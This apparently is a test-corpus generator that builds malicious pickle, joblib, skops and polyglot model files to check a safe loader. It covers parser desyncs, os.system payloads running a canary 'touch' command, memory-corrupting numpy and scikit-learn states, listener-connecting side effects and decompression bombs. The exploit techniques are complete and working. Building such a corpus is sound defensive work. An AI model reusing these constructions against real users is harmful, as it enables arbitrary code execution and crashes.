"""Files built to get past a safe loader, one family per way the old one was fooled.

- ``desync``: joblib files that a second, hand-written parser reads differently from ``joblib.load``
  (a dtype without its state, a shape that is not a tuple of ints, an array inside a protocol-4
  frame, a dtype whose pickled item size lies). ``joblib.load`` of each runs ``touch CANARY``.
- ``side_effect``: names from allowed libraries whose construction does I/O: scikit-learn's
  ``ScoringMonitor.__setstate__`` connects to the address in the file, numpy's
  ``__bit_generator_ctor`` instantiates any class it is given.
- ``memory``: allowed numpy reconstructors given a dtype whose state says an object dtype holds no
  references (the array then holds a pointer chosen by the file), and scikit-learn trees whose
  child or sample indices point outside their arrays.

Each family comes in pickle protocols 2-5 and joblib with every compressor where its construction
allows. Nothing here is executed while building. ``LISTENER`` is where socket payloads connect.
"""

from __future__ import annotations

import copyreg
import io
import os
import pickle
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from benign_corpus import joblib_compressors

# --- a tiny pickle assembler, for files no pickler writes ------------------------------------------


def op_str(s: str) -> bytes:
    data = s.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def op_global(module: str, name: str) -> bytes:
    return op_str(module) + op_str(name) + b"\x93"  # STACK_GLOBAL


def op_int(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def payload_ops(cmd: str) -> bytes:
    """Opcodes that call os.system(cmd) and leave its result on the stack."""
    return op_global("os", "system") + op_str(cmd) + b"\x85R"  # TUPLE1, REDUCE


def dtype_ops(spec: str, state: tuple[Any, ...] | None) -> bytes:
    """``numpy.dtype(spec, False, True)`` and, if given, BUILD with a hand-written state tuple."""
    out = op_global("numpy", "dtype") + op_str(spec) + b"\x89\x88\x87R"  # False, True, TUPLE3, REDUCE
    if state is not None:
        out += b"("
        for v in state:
            if v is None:
                out += b"N"
            elif isinstance(v, str):
                out += op_str(v)
            else:
                out += op_int(v)
        out += b"tb"  # TUPLE, BUILD
    return out


def wrapper_ops(shape_ops: bytes, dtype: bytes, *, alignment: bool = True) -> bytes:
    """A NumpyArrayWrapper with the given shape and dtype opcodes, ending with its BUILD."""
    items = (
        op_str("subclass")
        + op_global("numpy", "ndarray")
        + op_str("shape")
        + shape_ops
        + op_str("order")
        + op_str("C")
        + op_str("dtype")
        + dtype
        + op_str("allow_mmap")
        + b"\x89"
    )
    if alignment:
        items += op_str("numpy_array_alignment_bytes") + b"K\x10"
    return op_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + items + b"ub"


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


# --- stand-ins whose pickles name real library objects -------------------------------------------


class Reduce:
    """Pickles as ``func(*args)`` (+ BUILD ``state``): the pickle names ``func``, nothing runs here."""

    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...], state: Any = None) -> None:
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)


def _lying_object_dtype() -> Reduce:
    """dtype('O') whose state says it holds no references (flags 0 instead of 63)."""
    return Reduce(np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0))


def _reconstruct() -> Callable[..., Any]:
    try:
        from numpy._core.multiarray import _reconstruct
    except ImportError:  # numpy < 2
        from numpy.core.multiarray import _reconstruct  # type: ignore[no-redef]
    return _reconstruct


def _scalar() -> Callable[..., Any]:
    try:
        from numpy._core.multiarray import scalar
    except ImportError:
        from numpy.core.multiarray import scalar  # type: ignore[no-redef]
    return scalar


def _frombuffer() -> Callable[..., Any]:
    try:
        from numpy._core.numeric import _frombuffer
    except ImportError:
        from numpy.core.numeric import _frombuffer  # type: ignore[no-redef]
    return _frombuffer


POINTERS = struct.pack("<QQ", 0x4141414141414141, 0x4242424242424242)


def _memory_objects() -> dict[str, Any]:
    reconstruct = _reconstruct()
    structured = Reduce(
        np.dtype,
        ("V16", False, True),
        (3, "|", None, ("a", "b"), {"a": (_lying_object_dtype(), 0), "b": (Reduce(np.dtype, ("O8", False, True)), 8)},
         16, 1, 16),
    )  # fmt: skip
    return {
        "reconstruct_object_dtype_no_refs": Reduce(
            reconstruct, (np.ndarray, (0,), b"b"), (1, (2,), _lying_object_dtype(), False, POINTERS)
        ),
        "frombuffer_object_dtype_no_refs": Reduce(_frombuffer(), (POINTERS, _lying_object_dtype(), (2,), "C")),
        "scalar_object_dtype_no_refs": Reduce(_scalar(), (_lying_object_dtype(), POINTERS[:8])),
        "structured_object_field_no_refs": Reduce(
            reconstruct, (np.ndarray, (0,), b"b"), (1, (1,), structured, False, POINTERS)
        ),
        "tree_child_out_of_range": _broken_tree(),
        "kdtree_index_out_of_range": _broken_kdtree(),
    }


def _broken_tree() -> Any:
    """A fitted tree whose root's children point a billion nodes away (predict reads out of bounds)."""
    from sklearn.tree import DecisionTreeClassifier

    x = np.random.RandomState(0).rand(40, 3)
    model = DecisionTreeClassifier(max_depth=2, random_state=0).fit(x, (x[:, 0] > 0.5).astype(int))
    nodes = model.tree_.__getstate__()["nodes"]  # a view on the tree's own memory
    nodes["left_child"][0] = 10**9
    nodes["right_child"][0] = 10**9 + 1
    return model


def _broken_kdtree() -> Any:
    from sklearn.neighbors import KNeighborsClassifier

    x = np.random.RandomState(0).rand(40, 3)
    model = KNeighborsClassifier(3, algorithm="kd_tree").fit(x, (x[:, 0] > 0.5).astype(int))
    state = list(model._tree.__getstate__())
    idx = np.array(state[1], copy=True)
    idx[:] = 10**9
    state[1] = idx
    model._tree = Reduce(type(model._tree).__reduce__(model._tree)[0], (type(model._tree),), tuple(state))
    return model


def _side_effect_objects(address: tuple[str, int]) -> dict[str, Any]:
    from sklearn.callback._scoring_monitor import ScoringMonitor
    from sklearn.callback._transport import ListenerHandle

    handle = ListenerHandle(address=address, authkey=b"prov-test")
    monitor = Reduce(copyreg._reconstructor, (ScoringMonitor, object, None), {"_listener_handle": handle, "_log": []})
    from numpy.random import _pickle as np_pickle

    ctor = getattr(np_pickle, "__bit_generator_ctor")
    return {
        "sklearn_setstate_connects": monitor,
        "sklearn_setstate_connects_in_model": {"model": "looks fine", "callbacks": [monitor]},
        "numpy_bit_generator_ctor_any_class": Reduce(ctor, (ScoringMonitor,)),
    }


def _desync_files(cmd: str) -> dict[str, bytes]:
    """Uncompressed joblib containers; each runs ``cmd`` under joblib.load but read wrong by a second parser."""
    head = b"\x80\x04"
    tail_list = b"e."  # APPENDS, STOP
    files: dict[str, bytes] = {}
    # 1. dtype 'O8' pickled without its state: joblib sees an object dtype and reads a nested pickle.
    body = b"](" + wrapper_ops(b"K\x01\x85", dtype_ops("O8", None), alignment=False)
    files["dtype_without_state_hides_object_array"] = head + body + pickle.dumps(Reduce(os.system, (cmd,))) + tail_list
    # 2. a shape that is a numpy integer scalar, not a tuple of ints: joblib computes the count anyway.
    scalar_shape = op_global("numpy._core.multiarray", "scalar") + dtype_ops(
        "i8", (3, "<", None, None, None, -1, -1, 0)
    )
    scalar_shape += b"C\x08" + struct.pack("<q", 2) + b"\x86R\x85"  # SHORT_BINBYTES, TUPLE2, REDUCE, TUPLE1
    body = b"](" + wrapper_ops(scalar_shape, dtype_ops("f8", (3, "<", None, None, None, -1, -1, 0)))
    raw = b"\x0f" + b"\xff" * 15 + struct.pack("<dd", 1.0, 2.0)
    files["shape_not_a_tuple"] = head + body + raw + payload_ops(cmd) + tail_list
    # 3. the wrapper's BUILD inside a frame that goes on: joblib reads the array from behind the frame.
    inner = b"](" + wrapper_ops(b"K\x02\x85", dtype_ops("f8", (3, "<", None, None, None, -1, -1, 0)))
    inner += payload_ops(cmd) + tail_list
    raw = b"\x0f" + b"\xff" * 15 + struct.pack("<dd", 1.0, 2.0)
    files["array_inside_a_frame"] = head + frame(inner) + raw
    # 4. a dtype whose state claims an item size of 1 for float64: numpy ignores it, a parser that
    #    believes it skips 8x too few bytes and reads on into what joblib takes as array data.
    lie = dtype_ops("f8", (3, "<", None, None, None, 1, 1, 0))
    body = b"](" + wrapper_ops(b"K\x40\x85", lie, alignment=False)
    decoy = b"N0" * ((512 - 64 - 2) // 2) + tail_list  # what the fooled parser reads: inert, then STOP
    assert len(decoy) == 448
    files["dtype_state_lies_about_itemsize"] = head + body + b"\0" * 64 + decoy + payload_ops(cmd) + tail_list
    return files


def _polyglot(cmd: str) -> bytes:
    """joblib.load reads uint8 numbers where pickle.load reads opcodes that run ``cmd`` (no padding byte)."""
    hidden = payload_ops(cmd) + b"."  # what pickle.load executes, then stops
    body = b"](" + wrapper_ops(b"J" + struct.pack("<i", len(hidden)) + b"\x85", dtype_ops("u1", None), alignment=False)
    return b"\x80\x04" + body + hidden + b"e."


def _scipy_template_swap(cmd: str) -> bytes:
    """A RandomizedSearchCV whose distribution is BUILT with an exec'd template that carries ``cmd``;
    afterwards the state dict gets scipy's own template back (a judge of the final graph sees that)."""
    import scipy.stats
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import RandomizedSearchCV

    rng = np.random.RandomState(0)
    x, y = rng.randn(60, 3), (rng.rand(60) > 0.5).astype(int)
    search = RandomizedSearchCV(
        LogisticRegression(), {"C": scipy.stats.uniform(0.1, 2.0)}, n_iter=2, cv=2, random_state=0
    ).fit(x, y)
    dist = search.param_distributions["C"].dist
    good = dist._parse_arg_template
    evil = good + f"\n__import__('os').system({cmd!r})\n"

    class Swap(pickle._Pickler):  # type: ignore[name-defined,misc]
        def save_reduce(self, func, args, state=None, *rest, obj=None, **kw):  # type: ignore[no-untyped-def]
            if obj is dist and state is not None:
                state = dict(state)
                state["_parse_arg_template"] = evil
                super().save_reduce(func, args, None, *rest, obj=obj, **kw)
                self.save(state)
                self.write(pickle.BUILD)  # pickle.load runs evil here
                self.write(pickle.LONG_BINGET + self.memo[id(state)][0].to_bytes(4, "little"))
                self.save("_parse_arg_template")
                self.save(good)
                self.write(pickle.SETITEM + pickle.POP)  # ... and the final graph shows scipy's own
                return
            super().save_reduce(func, args, state, *rest, obj=obj, **kw)

    buf = io.BytesIO()
    Swap(buf, protocol=2).dump(search)
    return buf.getvalue()


def _dtype_fields_swap() -> bytes:
    """A dtype BUILT with a field 2 GiB past its 8 bytes, used by a masked array (whose fill value is
    written there), then the fields dict is fixed: pickle.load writes out of bounds, the final graph is fine."""
    buf = io.BytesIO()
    p = pickle._Pickler(buf, protocol=2)  # type: ignore[attr-defined]
    w = p.write
    w(pickle.PROTO + b"\x02")
    w(b"cnumpy\ndtype\n")
    p.save(("V8", False, True))
    w(pickle.REDUCE + pickle.LONG_BINPUT + (1000).to_bytes(4, "little"))
    fields = {"a": (np.dtype("<f8"), (1 << 31) - 8)}
    w(pickle.MARK)
    for v in (3, "|", None, ("a",)):
        p.save(v)
    p.save(fields)
    for v in (8, 1, 16):
        p.save(v)
    w(pickle.TUPLE + pickle.BUILD + pickle.POP)
    w(b"cnumpy.ma.core\n_mareconstruct\n" + pickle.MARK + b"cnumpy.ma.core\nMaskedArray\ncnumpy\nndarray\n")
    p.save((0,))
    p.save(b"b")
    w(pickle.TUPLE + pickle.REDUCE + pickle.MARK)
    p.save(1)
    p.save((1,))
    w(pickle.LONG_BINGET + (1000).to_bytes(4, "little"))
    for v in (False, bytes(8), b"\x00", None):
        p.save(v)
    w(pickle.TUPLE + pickle.BUILD)
    w(pickle.LONG_BINGET + p.memo[id(fields)][0].to_bytes(4, "little"))
    p.save("a")
    p.save((np.dtype("<f8"), 0))
    w(pickle.SETITEM + pickle.POP + pickle.STOP)
    return buf.getvalue()


def _pickle_load_ignores_frames(cmd: str) -> bytes:
    """joblib data read by pickle.load: a FRAME ending inside a GLOBAL stops the Python unpickler, not
    the C one, which goes on to run ``cmd`` (joblib's stream without alignment: an unseekable target)."""
    from sklearn.linear_model import LogisticRegression

    payload = b"\x95" + struct.pack("<Q", 4) + b"cpos" + b"ix\nsystem\n"  # the frame ends inside the GLOBAL
    payload += b"X" + struct.pack("<I", len(cmd)) + cmd.encode() + b"\x85R."
    rng = np.random.RandomState(0)
    model = LogisticRegression().fit(rng.randn(40, 3), [0, 1] * 20)
    model.n_iter_ = np.frombuffer(payload, dtype=np.uint8).copy()
    state = model.__dict__
    model.__dict__ = {"n_iter_": state.pop("n_iter_"), **state}  # the first array written

    class NoTell(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: Any) -> int:
            self.data += b
            return len(b)

        def tell(self) -> int:
            raise io.UnsupportedOperation

    sink = NoTell()
    joblib.dump(model, sink, protocol=2)
    return bytes(sink.data)


def _polyglots(cmd: str) -> dict[str, bytes]:
    """Files whose header says safetensors or GGUF (no code) and whose bytes are also a pickle."""
    import json

    payload = b"cposix\nsystem\n(V" + cmd.encode() + b"\ntR."
    n = 0x56  # 'V' then seven zero bytes: UNICODE up to the next newline swallows the header
    header = json.dumps({"__metadata__": {"format": "pt"}}).encode()
    return {
        "polyglot.gguf": b"GGUF" + (3).to_bytes(4, "little") + b"\x00" + payload,
        "polyglot.safetensors": n.to_bytes(8, "little") + header + b" " * (n - len(header)) + b"\n" + payload,
    }


def _dag(depth: int = 60) -> bytes:
    """455 bytes: tuples each holding the previous one twice (2**60 paths through one small graph)."""
    b = bytearray(b"\x80\x02)q\x00")
    for i in range(1, depth + 1):
        b += b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"\x86q" + bytes([i])
    return bytes(b + b"ccollections\nOrderedDict\nh" + bytes([depth]) + b"\x85R.")


def _array_bomb(gib: int = 2) -> bytes:
    """A couple of KB of bz2 that joblib decompresses into ``gib`` GiB of array zeros."""
    import bz2

    count = gib * (1 << 30) // 8
    buf = io.BytesIO()
    joblib.dump(np.zeros(3), buf, protocol=2)
    raw = buf.getvalue()
    head = raw[: len(raw) - 25].replace(b"K\x03\x85", b"\x8a\x08" + count.to_bytes(8, "little") + b"\x85")
    c = bz2.BZ2Compressor(9)
    out = [c.compress(head)]
    zeros = bytes(64 << 20)
    left = count * 8
    while left:
        n = min(left, len(zeros))
        out.append(c.compress(zeros[:n]))
        left -= n
    out += [c.compress(b"."), c.flush()]
    return b"".join(out)


def _round_two(cmd: str) -> dict[str, bytes]:
    """Found in a second attack round: prov refusals pickle.load reads past; trees that fit themselves
    but not their estimator; a memo index that makes pickle.load allocate gigabytes."""
    from sklearn.ensemble import HistGradientBoostingRegressor
    from sklearn.ensemble._hist_gradient_boosting.common import PREDICTOR_RECORD_DTYPE
    from sklearn.tree import DecisionTreeRegressor
    from sklearn.tree._tree import Tree

    out: dict[str, bytes] = {}
    # joblib reads the byte after the wrapper as a padding length; pickle.load reads it as NONE, then a
    # BUILD on a global (a refusal only prov makes) and then the payload.
    buf = io.BytesIO()
    joblib.dump(np.full(4, 65, dtype=np.uint8), buf)
    raw = buf.getvalue()
    raw = raw[:2] + raw[11:]  # no FRAME
    head = raw[: raw.rindex(b"ub") + 2]
    hidden = b"cbuiltins\nlist\n}b" + b"cos\nsystem\n(V" + cmd.encode() + b"\ntR."
    out["refusal_pickle_load_reads_past.joblib"] = head + b"N" + hidden.ljust(ord("N"), b"\x00") + b"AAAA."
    trigger = b"\x96" + struct.pack("<Q", 1) + b"x(K\x41e"  # APPENDS on a bytearray: pickle.load extends it
    payload = trigger + b"cos\nsystem\n(V" + cmd.encode() + b"\ntR."
    out["bytearray_append.gguf"] = b"GGUF" + struct.pack("<I", 3) + b"\x00" + payload + bytes(64)
    npy = io.BytesIO()
    np.lib.format.write_array_header_1_0(npy, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    out["bytearray_append_object.npy"] = npy.getvalue() + payload
    out["memo_index_4gb.pkl"] = b"\x80\x02K\x05r" + struct.pack("<I", 0x10000000) + b"."
    rng = np.random.RandomState(0)
    x = rng.rand(200, 3)
    for variant in ("feature", "field_order"):
        hgb = HistGradientBoostingRegressor(max_iter=2, max_depth=2).fit(x, x[:, 0] * 10)
        pred = hgb._predictors[0][0]
        nodes = pred.nodes.copy()
        inner = nodes["is_leaf"] == 0
        if variant == "feature":
            nodes["feature_idx"][inner] = 1 << 40
        else:  # same names, other order: TreePredictor.__setstate__ casts by position
            names = list(PREDICTOR_RECORD_DTYPE.names)
            i, j = names.index("left"), names.index("count")
            names[i], names[j] = names[j], names[i]
            swapped = np.zeros(nodes.shape, np.dtype([(n, PREDICTOR_RECORD_DTYPE.fields[n][0]) for n in names]))
            for n in PREDICTOR_RECORD_DTYPE.names:
                swapped[n] = nodes[n]
            swapped["count"][inner] = 1 << 30
            nodes = swapped
        pred.nodes = nodes
        out[f"hgb_{variant}_out_of_range.pkl"] = pickle.dumps(hgb, protocol=4)
    tree = DecisionTreeRegressor(max_depth=1).fit(x[:, :2], x[:, 1])
    state = tree.tree_.__getstate__()
    state["nodes"] = state["nodes"].copy()
    state["nodes"]["feature"][0] = (1 << 30) - 1
    big = Tree(1 << 30, np.array([1], dtype=np.intp), 1)
    big.__setstate__(state)
    tree.tree_ = big  # a tree with 2**30 features inside an estimator fitted on 2
    out["tree_features_beyond_the_estimator.pkl"] = pickle.dumps(tree, protocol=4)
    return out


def _saves(name: str, obj: Any) -> dict[str, Callable[[Path], None]]:
    out: dict[str, Callable[[Path], None]] = {}
    for proto in (2, 3, 4, 5):
        out[f"{name}.p{proto}.pkl"] = lambda p, proto=proto: p.write_bytes(pickle.dumps(obj, protocol=proto))
    out[f"{name}.joblib"] = lambda p: joblib.dump(obj, p)
    for comp in joblib_compressors():
        out[f"{name}.{comp}.joblib"] = lambda p, comp=comp: joblib.dump(obj, p, compress=(comp, 3))
    return out


def _compressed(data: bytes, comp: str) -> bytes:
    buf = io.BytesIO()
    from joblib.compressor import _COMPRESSORS

    with _COMPRESSORS[comp].compressor_file(buf, compresslevel=3) as f:
        f.write(data)
    return buf.getvalue()


def build(directory: Path, canary: Path, listener: tuple[str, int]) -> dict[str, dict[str, Path]]:
    """Write every family; returns family -> {file name -> path}."""
    directory.mkdir(parents=True, exist_ok=True)
    cmd = f"touch {canary}"
    families: dict[str, dict[str, Path]] = {"desync": {}, "side_effect": {}, "memory": {}, "other": {}}
    for name, data in _desync_files(cmd).items():
        variants = {
            f"{name}.joblib": data,
            **{f"{name}.{c}.joblib": _compressed(data, c) for c in joblib_compressors()},
        }
        for fname, content in variants.items():
            (directory / fname).write_bytes(content)
            families["desync"][fname] = directory / fname
    (directory / "numbers_for_joblib_code_for_pickle.pkl").write_bytes(_polyglot(cmd))
    families["desync"]["numbers_for_joblib_code_for_pickle.pkl"] = directory / "numbers_for_joblib_code_for_pickle.pkl"
    for family, objects in (("side_effect", _side_effect_objects(listener)), ("memory", _memory_objects())):
        for name, obj in objects.items():
            for fname, save in _saves(name, obj).items():
                save(directory / fname)
                families[family][fname] = directory / fname
    # Time of check, time of use: a state changed after a plain load used it.
    families["toctou"] = {}
    for name, data in (("scipy_template_swap", _scipy_template_swap(cmd)), ("dtype_fields_swap", _dtype_fields_swap())):
        variants = {f"{name}.pkl": data}
        variants.update({f"{name}.{c}.joblib": _compressed(data, c) for c in joblib_compressors()})
        for fname, content in variants.items():
            (directory / fname).write_bytes(content)
            families["toctou"][fname] = directory / fname
    (directory / "pickle_load_ignores_frames.joblib").write_bytes(_pickle_load_ignores_frames(cmd))
    families["desync"]["pickle_load_ignores_frames.joblib"] = directory / "pickle_load_ignores_frames.joblib"
    extra = {**_polyglots(cmd), "shared_tuples_dag.pkl": _dag(), "array_bomb.bz2.joblib": _array_bomb()}
    extra.update(_round_two(cmd))
    for fname, content in extra.items():
        (directory / fname).write_bytes(content)
        families["other"][fname] = directory / fname
    import skops.io
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import FunctionTransformer

    hidden = LogisticRegression().fit(np.random.RandomState(0).rand(20, 2), [0, 1] * 10)
    hidden.extra_ = [*range(60), FunctionTransformer(func=os.system)]  # past any summary's item limit
    skops.io.dump(hidden, directory / "hidden_past_the_summary.skops")
    families["other"]["hidden_past_the_summary.skops"] = directory / "hidden_past_the_summary.skops"
    # Pickles under names prov used not to read, and a decompression bomb of trivial opcodes.
    payload = pickle.dumps(Reduce(os.system, (cmd,)), protocol=2)
    for suffix in (".pt", ".pth", ".bin", ".ckpt"):
        (directory / f"renamed_pickle{suffix}").write_bytes(payload)
        families["other"][f"renamed_pickle{suffix}"] = directory / f"renamed_pickle{suffix}"
    bomb = b"\x80\x04" + b"N0" * 20_000_000 + b"N."
    (directory / "trivial_opcodes_bomb.gzip.joblib").write_bytes(_compressed(bomb, "gzip"))
    families["other"]["trivial_opcodes_bomb.gzip.joblib"] = directory / "trivial_opcodes_bomb.gzip.joblib"
    return families
